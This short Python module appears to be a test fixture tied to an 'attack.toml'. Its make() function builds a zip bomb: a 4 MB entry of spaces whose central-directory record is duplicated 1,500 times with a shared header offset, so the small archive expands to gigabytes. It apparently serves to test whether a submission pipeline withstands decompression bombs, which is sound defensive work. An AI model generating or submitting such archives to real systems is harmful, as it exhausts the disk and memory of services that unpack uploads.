"""Builds what git cannot hold: see attack.toml."""

import zipfile
from pathlib import Path

SCALE = "class Scale:\n    pass\n"


def make(folder: Path) -> Path:
    """Return the submission."""
    path = folder / "work.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("scale.py", " " * 4_000_000)
        for number in range(1500):
            entry = zipfile.ZipInfo(f"part{number:04}.py")
            entry.header_offset, entry.compress_type = 0, zipfile.ZIP_DEFLATED
            first = archive.infolist()[0]
            entry.CRC, entry.file_size = first.CRC, first.file_size
            entry.compress_size = first.compress_size
            archive.filelist.append(entry)
    return path
